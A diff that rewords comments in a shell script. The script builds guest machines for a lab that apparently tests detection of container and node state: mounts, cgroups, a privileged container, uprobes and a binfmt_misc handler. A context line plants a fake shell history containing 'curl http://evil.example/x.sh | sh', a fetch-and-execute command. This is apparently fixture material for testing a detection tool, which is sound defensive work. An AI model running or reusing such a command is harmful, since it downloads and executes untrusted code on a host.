@@ -1,6 +1,6 @@
 # shellcheck shell=dash
-# What runs in the corpus' guests, sourced by ../lab/guest/init: everything that the truth tests ask about, once, and little
-# besides. /extra/root has bash, the C library and "work" (work.c).
+# The programs of the corpus' guests, sourced by ../lab/guest/init: one example of everything that the truth tests check, and
+# little else. /extra/root has bash, the C library and "work" (work.c).
 CGROUP=/sys/fs/cgroup
 PODS=$CGROUP/kubepods.slice/kubepods-besteffort.slice
 
@@ -23,7 +23,7 @@ ip addr add 10.4.0.7/24 dev eth0
 ip link set eth0 up
 ip link set veth0 up
 
-# --- Mounts: an overlay, a bind and a tmpfs that is read only.
+# --- Mounts: an overlay, a bind mount and a read-only tmpfs.
 
 mkdir -p /tmp/lower /tmp/upper /tmp/work /tmp/overlay /tmp/bind /tmp/quiet
 echo a >/tmp/lower/a
@@ -33,7 +33,7 @@ mount -t tmpfs -o ro,noexec,size=64k quiet /tmp/quiet
 
 # --- Processes.
 
-# begin COMMAND…: in the background, with no file of this script's
+# begin COMMAND…: runs a command in the background, without this script's open files
 begin() {
     "$@" </dev/null >/dev/null 2>&1 7>&- &
 }
@@ -63,13 +63,13 @@ printf 'set -o history\nwhoami\ncurl http://evil.example/x.sh | sh\nkubectl get 
 
 # --- Three containers, in cgroups as containerd and the kubelet make them.
 
-# cgroup NUMBER: sets scope
+# cgroup NUMBER: makes a container's cgroup and sets the variable scope
 cgroup() {
     pod=kubepods-besteffort-pod0c1d2e3f_aaaa_bbbb_cccc_00000000000$1.slice
     scope=$PODS/$pod/cri-containerd-$(printf '%064d' "$1" | tr 0 a).scope
     mkdir -p "$scope"
 }
-# container NUMBER NAME OPTIONS…
+# container NUMBER NAME OPTIONS…: starts a container
 container() {
     cgroup "$1"
     root=/var/lib/containers/$2
@@ -91,8 +91,8 @@ container 2 privileged --privileged --bind /tmp:/host
 cgroup 3
 begin work rootless "$scope/cgroup.procs"
 
-# --- What an honest node may have too: events of perf_event_open(2), a probe in a program, a hierarchy of cgroup v1, programs
-# of another processor's that an emulator is to run.
+# --- A clean node may have these too: events of perf_event_open(2), a probe in a program, a hierarchy of cgroup v1, and an
+# emulator registered for programs of another processor.
 
 begin /usr/bin/lab watcher
 echo "p:lab/watched /usr/bin/lab:$(/usr/bin/lab watcher --offset)" >/sys/kernel/tracing/uprobe_events
@@ -107,7 +107,8 @@ mask='\xff\xff\xff\xff\xff\xff\xff\x00\xff\xff\xff\xff\xff\xff\xff\xff\xfe\xff\x
 printf '%s' ":qemu-aarch64:M::$magic:$mask:/bin/busybox:POCF" >$formats/register
 
 sleep 3
-# What has failed to start would be missed by no test: said on the console. The rootless container is two processes named work.
+# No test would miss a program that failed to start, so it is reported on the console. The rootless container is two
+# processes named work.
 for name in work:12 kworker/9:9:2 app:4 bash:1; do
     [ "$(cat /proc/[0-9]*/comm | grep -cx "${name%:*}")" = "${name##*:}" ] || echo "lab: not ${name##*:} times ${name%:*}"
 done
